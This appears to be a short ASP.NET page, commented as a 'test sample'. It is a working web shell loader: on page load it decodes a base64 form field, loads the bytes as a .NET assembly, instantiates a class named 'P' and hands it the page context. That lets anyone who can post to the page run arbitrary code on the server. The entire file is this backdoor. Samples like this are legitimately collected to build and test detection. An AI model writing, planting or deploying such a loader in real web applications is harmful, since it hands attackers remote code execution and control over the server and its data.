<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
    // test sample: loads an assembly posted in the request
    protected void Page_Load(object sender, EventArgs e)
    {
        byte[] raw = Convert.FromBase64String(Request.Form["data"]);
        Assembly.Load(raw).CreateInstance("P").Equals(this);
    }
</script>
